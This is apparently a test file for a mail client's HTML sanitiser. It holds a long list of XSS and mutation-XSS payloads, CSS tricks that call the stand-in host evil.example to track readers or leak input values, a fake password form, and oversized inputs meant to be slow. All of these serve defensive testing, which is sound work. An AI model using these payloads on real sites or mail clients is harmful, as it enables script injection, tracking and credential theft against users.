import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { InlineImages } from '../../../../src/services/mail/page/body/images.ts';
import { sanitise } from '../../../../src/services/mail/page/body/sanitise.ts';

const PIXEL = 'data:image/png;base64,iVBORw0KGgo=';

const clean = (html: string, images = new InlineImages()) => sanitise(html, images);

/** Asserts that a body has no elements or attributes that execute, load, send or navigate automatically. */
function expectHarmless(html: string): void {
  const tags = Array.from(html.matchAll(/<\/?([a-z][^\s/>]*)([^>]*)>/gi));
  for (const [whole, name = '', attributes = ''] of tags) {
    expect(name, whole).not.toMatch(
      /^(?:script|style|iframe|frame|frameset|object|embed|applet|form|input|button|textarea|select|link|meta|base|svg|math|video|audio|source|track|template|noscript|portal|html|head|body|image|use|animate|set|foreignobject)$/i,
    );
    const values = Array.from(attributes.matchAll(/([^\s="]+)(?:="([^"]*)")?/g));
    for (const [, attribute = '', value = ''] of values) {
      expect(attribute, whole).not.toMatch(
        /^(?:on|srcset|background|poster|action|formaction|ping|srcdoc|xlink|data$|id$|class$|name$|is$|slot$)/i,
      );
      if (attribute === 'src') expect(value, whole).toMatch(/^data:image\/(?:png|jpe?g|gif|webp|bmp);base64,/);
      if (attribute === 'href') expect(value, whole).toMatch(/^(?:https?:|mailto:|tel:)/);
      if (attribute === 'style') expect(value, whole).not.toMatch(/url|image|expression|import|\\|@|behavior|binding/i);
    }
  }
}

/** Each with the number of external references that are removed from it. */
const ATTACKS: readonly (readonly [attack: string, blocked: number])[] = [
  ['<script>alert(1)</script>', 0],
  ['<script src="https://evil.example/x.js"></script>', 1],
  ['<SCRIPT/SRC=//evil.example/x></SCRIPT>', 1],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>', 0],
  ['<img src=x onerror=alert(1)>', 1],
  ['<img src="x" onerror="alert(1)"', 0],
  ['<img src="https://evil.example/pixel.gif" width=1 height=1>', 1],
  ['<img srcset="https://evil.example/a 1x, https://evil.example/b 2x">', 1],
  ['<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', 0],
  ['<img src="data:text/html,<script>alert(1)</script>">', 0],
  ['<img lowsrc="https://evil.example/a" dynsrc="https://evil.example/b">', 2],
  ['<picture><source srcset="https://evil.example/a"><img alt="x"></picture>', 1],
  ['<body background="https://evil.example/x" onload="alert(1)">text</body>', 1],
  ['<table background="https://evil.example/x"><tr><td background="//evil.example/y">x</td></tr></table>', 2],
  ['<div style="background:url(https://evil.example/x)">x</div>', 1],
  ['<div style="background-image:url(\'https://evil.example/x\')">x</div>', 1],
  ['<div style="background:u\\72l(https://evil.example/x)">x</div>', 0],
  ['<div style="background:url/**/(https://evil.example/x)">x</div>', 0],
  ['<div style="background-image:image-set(&quot;https://evil.example/x&quot; 1x)">x</div>', 1],
  ['<div style="list-style:url(https://evil.example/x)">x</div>', 1],
  ['<div style="width:expression(alert(1))">x</div>', 0],
  ['<div style="behavior:url(#default#time2)">x</div>', 1],
  ['<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>', 1],
  ['<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>', 0],
  ['<div style="color:red;--x:url(https://evil.example)">x</div>', 1],
  ['<div style="font-family:\'a;background:url(https://evil.example/x)\'">x</div>', 1],
  ['<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/y)}</style>', 2],
  ['<style>input[value^=a]{background:url(https://evil.example/a)}</style><input value="abc">', 1],
  ['<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}</style>', 1],
  ['<style><img src="</style><img src=x onerror=alert(1)>">', 1],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', 1],
  ['<link rel="dns-prefetch" href="//evil.example"><link rel=preconnect href="https://evil.example">', 2],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', 1],
  ['<base href="https://evil.example/"><a href="page">x</a>', 0],
  ['<form action="https://evil.example"><input name="password"><button>Sign in</button></form>', 0],
  ['<button formaction="javascript:alert(1)">x</button>', 0],
  ['<iframe src="https://evil.example"></iframe>', 1],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', 0],
  ['<iframe><img src=x onerror=alert(1)></iframe>', 0],
  ['<object data="https://evil.example/x.swf"><embed src="https://evil.example/y.swf"></object>', 1],
  ['<video poster="https://evil.example/x" src="https://evil.example/y" autoplay></video>', 2],
  ['<svg onload=alert(1)><script>alert(1)</script></svg>', 0],
  ['<svg><image href="https://evil.example/x"/><use href="https://evil.example/y#z"/></svg>', 0],
  ['<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>', 0],
  ['<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>', 0],
  ['<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', 0],
  ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', 0],
  ['<math href="javascript:alert(1)">x</math>', 0],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', 0],
  ['<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>', 1],
  ['<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>', 1],
  ['<template><script>alert(1)</script></template>', 0],
  ['<title><img src=x onerror=alert(1)></title>', 0],
  ['<a href="javascript:alert(1)">x</a>', 0],
  ['<a href="java&#10;script:alert(1)">x</a>', 0],
  ['<a href="&#106;avascript:alert(1)">x</a>', 0],
  ['<a href=" \u0001javascript:alert(1)">x</a>', 0],
  ['<a href="vbscript:x">x</a><a href="data:text/html,x">x</a><a href="blob:https://x/y">x</a>', 0],
  ['<a href="/_jar/reset">x</a><a href="//evil.example">x</a><a href="?x">x</a><a href="#x">x</a>', 0],
  ['<a ping="https://evil.example/ping" href="https://a.example/">x</a>', 0],
  ['<p onclick=alert(1) onmouseover="alert(1)" ONFOCUS=alert(1) tabindex=1 autofocus>x</p>', 0],
  ['<p/onclick=alert(1)//id=x>x</p>', 0],
  ['<div id="top" class="x" name="y">x</div>', 0],
  ['<!--[if mso]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>', 0],
  ['<!-- --!><script>alert(1)</script> -->', 0],
  ['<?xml-stylesheet href="https://evil.example/x.css"?><p>x</p>', 0],
  ['<p title="</p><script>alert(1)</script>">x</p>', 0],
  ['<a title="a"title="><script>alert(1)</script>">x</a>', 0],
  ['<plaintext><script>alert(1)</script>', 0],
  ['<frameset><frame src="https://evil.example"></frameset>', 0],
  ['<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>', 0],
  ['<p __proto__="x" constructor="y">x</p>', 0],
  ['\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>', 0],
];

test.each(ATTACKS)('%j is harmless after it is sanitised', async (attack, blocked) => {
  const { html, blocked: counted } = await clean(attack);
  expectHarmless(html);
  expect(counted).toBe(blocked);
});

describe('readable content stays', () => {
  it('text, tables and looks', async () => {
    const source =
      '<table width="100%" cellpadding="2"><tr><td style="color:#f00;font-family:\'Segoe UI\',sans-serif">Hello <b>you</b> &amp; me &lt;3</td></tr></table>';
    const { html } = await clean(source);
    expect(html).toBe(
      '<table width="100%" cellpadding="2"><tr><td style="color:#f00;font-family:\'Segoe UI\',sans-serif">Hello <b>you</b> &amp; me &lt;3</td></tr></table>',
    );
  });

  it('the text of elements that are nested too deep for a browser', async () => {
    expect((await clean(`${'<div>'.repeat(500)}deep<b>er</b>`)).html).toMatch(/deeper(?:<\/div>)*$/);
    expect((await clean(`${'<div>'.repeat(5000)}deep &lt;er`)).html).toBe('<div>deep &lt;er</div>');
  });

  it('links open in a new window and show their destination, whatever their text is', async () => {
    const { html } = await clean('<a href="https://bank.example@evil.example/x" title="Bank">https://bank.example</a>');
    expect(html).toBe(
      '<a title="https://bank.example@evil.example/x" href="https://bank.example@evil.example/x" target="_blank" rel="noopener noreferrer" data-goes-to="evil.example">https://bank.example</a>',
    );
    expect((await clean('<a href="https://b\u0430nk.example/">x</a>')).html).toContain('data-goes-to="xn--');
    expect((await clean('<a href="mailto:a@b.example?subject=x">x</a>')).html).toContain('data-goes-to="a@b.example"');
  });

  it('attached images are embedded, within the size limit', async () => {
    const images = () => new InlineImages(new Map([['logo@x', PIXEL]]));
    const { html, blocked } = await clean('<img src="CID:logo%40x" alt="Logo"><img src="cid:other">', images());
    expect(html).toBe(`<img alt="Logo" src="${PIXEL}" /><img />`);
    expect(blocked).toBe(0);
    const large = new InlineImages(new Map([['a', `data:image/png;base64,${'A'.repeat(5_000_000)}`]]));
    const many = await clean('<img src="cid:a">'.repeat(1000), large);
    expect(many.html.length).toBeLessThan(13_000_000);
    expect(many.html.split('src=')).toHaveLength(3);
  });
});

describe('a body that is made to be slow', () => {
  it.each([
    ['1 MB of <', '<'.repeat(1_000_000)],
    ['nested elements', '<div>'.repeat(200_000)],
    ['style elements without an end', '<style>'.repeat(140_000)],
    ['noscript elements without an end', '<noscript>'.repeat(100_000)],
    ['one tag with many attributes', `<p ${'a=b '.repeat(200_000)}>`],
    ['one long style attribute', `<p style="${'color:red;'.repeat(100_000)}">x</p>`],
    ['brackets in styles', `<p style="color:${'rgb('.repeat(200_000)}">x</p>`],
    ['entities', '&amp'.repeat(250_000)],
    ['comments', '<!--'.repeat(250_000)],
    ['nested iframes', '<iframe>'.repeat(100_000)],
    ['a long data URL', `<img src="data:image/png;base64,${'A'.repeat(1_000_000)}!">`],
  ])('is sanitised all the same: %s', { timeout: 60_000 }, async (_name, source) => {
    expectHarmless((await clean(source)).html.slice(0, 10_000));
  });
});

test('pieces of attacks in any order are harmless', async () => {
  const piece = fc.oneof(
    fc.constantFrom(...ATTACKS.map(([attack]) => attack)),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '/',
      '<!--',
      '-->',
      '<style>',
      '</style>',
      '<svg>',
      '</svg>',
      '<math>',
      '<p title="',
    ),
    fc.string({ maxLength: 8 }),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(piece, { maxLength: 8 }), async (pieces) => {
      const once = (await clean(pieces.join(''))).html;
      expectHarmless(once);
      // Sanitising the output again does not change it.
      const twice = (await clean(once)).html;
      expect((await clean(twice)).html).toBe(twice);
    }),
    { numRuns: 200 },
  );
});
